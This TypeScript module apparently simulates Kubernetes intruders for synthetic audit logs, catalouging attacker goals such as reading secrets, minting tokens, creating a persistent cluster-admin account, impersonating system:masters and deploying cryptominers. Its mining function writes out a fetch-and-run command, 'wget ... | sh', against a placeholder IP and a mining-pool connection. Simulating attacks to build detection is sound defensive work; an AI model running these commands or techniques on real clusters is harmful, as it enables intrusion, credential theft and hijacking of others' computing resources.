import type { Call, Caller } from '../audit.ts';
import { serviceAccountUser } from '../callers.ts';
import { drawPod, namespacesOf } from '../layout.ts';
import * as names from '../names.ts';
import { minute } from '../world.ts';
import { startPod, workloadBody } from '../workloads.ts';
import { execInto } from './execution.ts';
import type { Stage } from './stage.ts';

/** What an intruder is after. */
export type Goal = (stage: Stage, caller: Caller) => void;

const rbac = 'rbac.authorization.k8s.io';

/** Time between requests: a script's, a person's at a keyboard, or of one who has all day. */
function tempo(stage: Stage): number {
  return stage.random.pick([500, 5000, 40_000, 4 * minute, 25 * minute]);
}

/** Some namespaces of the company's own. */
function places(stage: Stage, least: number, most: number): string[] {
  return stage.random.some(namespacesOf(stage.setting.layout, 'production', 'test'), stage.random.int(least, most));
}

export const goals = {
  secrets: (stage, caller) => {
    const pause = tempo(stage);
    const mounted = stage.setting.layout.apps.flatMap(({ namespace, secrets }) => secrets.map((name) => ({ namespace, name })));
    for (const namespace of places(stage, 1, 3)) stage.do(caller, { verb: 'list', resource: 'secrets', namespace, code: stage.random.chance(0.2) ? 403 : 200 }, pause);
    for (const secret of stage.random.some(mounted, stage.random.int(4, 12))) stage.do(caller, { verb: 'get', resource: 'secrets', ...secret }, pause);
  },
  /** Keys that somebody put where they do not belong; bodies of config maps are not in the log. */
  'config-maps': (stage, caller) => {
    const pause = tempo(stage);
    for (const namespace of places(stage, 2, 6)) stage.do(caller, { verb: 'list', resource: 'configmaps', namespace }, pause);
    for (const { namespace, name } of stage.random.some(stage.setting.layout.apps, stage.random.int(5, 15))) stage.do(caller, { verb: 'get', resource: 'configmaps', namespace, name: `${name}-config` }, pause);
    stage.do(caller, { verb: 'get', resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' }, pause);
  },
  'data-copy': (stage, caller) => {
    const app = stage.app(({ isDatabase }) => isDatabase);
    const name = stage.random.pick(app.pods).name;
    const pause = tempo(stage);
    stage.do(caller, { verb: 'list', resource: 'pods', namespace: app.namespace }, pause);
    for (const command of [['tar', 'cf', '-', stage.random.pick(['/data', '/var/lib', '/bitnami'])], ['rm', '-f', '/tmp/d.tgz']]) stage.do(caller, execInto(app.namespace, name, command), pause);
  },
  'database-tunnel': (stage, caller) => {
    const app = stage.app(({ isDatabase }) => isDatabase);
    const name = stage.random.pick(app.pods).name;
    stage.do(caller, { verb: 'list', resource: 'services', namespace: app.namespace });
    stage.do(caller, { verb: 'get', resource: 'pods', namespace: app.namespace, name });
    stage.do(caller, { verb: 'create', resource: 'pods/portforward', namespace: app.namespace, name, seconds: 1800 });
  },
  tokens: (stage, caller) => {
    const pause = tempo(stage);
    for (const { kind } of stage.random.some(stage.setting.tools, stage.random.int(2, 4))) stage.do(caller, { verb: 'create', resource: 'serviceaccounts/token', namespace: kind.namespace, name: kind.name, issues: stage.random.uuid(), body: { kind: 'TokenRequest', spec: { audiences: null, expirationSeconds: 86400 } } }, pause);
  },
  /** An account of one's own, its rights, and a token that does not expire. */
  account: (stage, caller) => {
    const pause = tempo(stage);
    const namespace = stage.random.pick(['kube-system', ...places(stage, 1, 2)]);
    const name = stage.random.pick(['deployer-2', 'ci-cache', 'health-probe', 'registry-sync']);
    stage.do(caller, { verb: 'create', resource: 'serviceaccounts', namespace, name, body: { kind: 'ServiceAccount', metadata: { name, namespace } } }, pause);
    stage.do(caller, { verb: 'create', resource: `${rbac}/rolebindings`, namespace, name, body: { kind: 'RoleBinding', metadata: { name }, roleRef: { kind: 'ClusterRole', name: stage.random.pick(['admin', 'edit', 'cluster-admin']) }, subjects: [{ kind: 'ServiceAccount', name, namespace }] } }, pause);
    stage.do(caller, { verb: 'create', resource: 'secrets', namespace, name: `${name}-token` }, pause);
  },
  mining: (stage, caller) => { mine(stage, caller, stage.random.pick(['deployments', 'daemonsets', 'cronjobs'])); },
  'kubelet-proxy': (stage, caller) => {
    const pause = tempo(stage);
    const proxied = (name: string, path: string): Call => ({ verb: 'get', resource: 'nodes/proxy', name, path });
    for (const { name } of stage.random.some(stage.setting.layout.nodes, stage.random.int(1, 3))) for (const path of ['pods', 'runningpods', 'logs']) stage.do(caller, proxied(name, path), pause);
  },
  'as-system': (stage, caller) => {
    const as = stage.random.pick([{ username: 'system:admin', groups: ['system:masters'] }, serviceAccountUser({ namespace: 'kube-system', account: 'generic-garbage-collector' })]);
    const pause = tempo(stage);
    for (const resource of ['secrets', 'nodes', 'configmaps']) stage.do(caller, { verb: 'list', resource, as }, pause);
  },
} as const satisfies Readonly<Record<string, Goal>>;

/** Goes for one goal of some, or of all. */
export function pursue(stage: Stage, caller: Caller, ...among: (keyof typeof goals)[]): void {
  const kind = stage.random.pick(among.length > 0 ? among : Object.keys(goals) as (keyof typeof goals)[]);
  goals[kind](stage, caller);
}

/** Lets others' machines earn; the image says what it is only sometimes. */
export function mine(stage: Stage, caller: Caller, kind: 'deployments' | 'daemonsets' | 'cronjobs'): void {
  const { random, setting, mark } = stage;
  const name = random.pick(['render-farm', 'node-tuning', 'thumbnails', 'metrics-cache']);
  const image = random.pick([...names.foreignImages, 'docker.io/library/alpine:3', 'docker.io/library/ubuntu:22.04']);
  const namespace = random.pick(['default', ...places(stage, 1, 2)]);
  const container = { name, image, command: ['sh', '-c', random.pick(['wget -qO- http://203.0.113.77/x | sh', './worker -o stratum+tcp://pool.example:3333', 'sleep 5; /opt/run'])], resources: { requests: { cpu: '4' } } };
  if (kind === 'cronjobs') {
    stage.do(caller, { verb: 'create', resource: 'batch/cronjobs', namespace, name, body: { kind: 'CronJob', metadata: { name }, spec: { schedule: '0 * * * *', jobTemplate: { spec: { parallelism: 20, template: { spec: { containers: [container] } } } } } } });
    return;
  }
  const app = { ...stage.app(), name, namespace, image, kind, replicas: random.int(5, 40), secrets: [] };
  stage.do(caller, { verb: 'create', resource: `apps/${kind}`, namespace, name, body: workloadBody(app, { containers: [container] }) });
  const nodes = kind === 'daemonsets' ? setting.layout.nodes : Array.from({ length: Math.min(app.replicas, 12) }, () => random.pick(setting.layout.nodes));
  for (const [index, node] of nodes.entries()) startPod(setting, drawPod(random, app, node, index), { app, time: stage.time, random, mark });
}
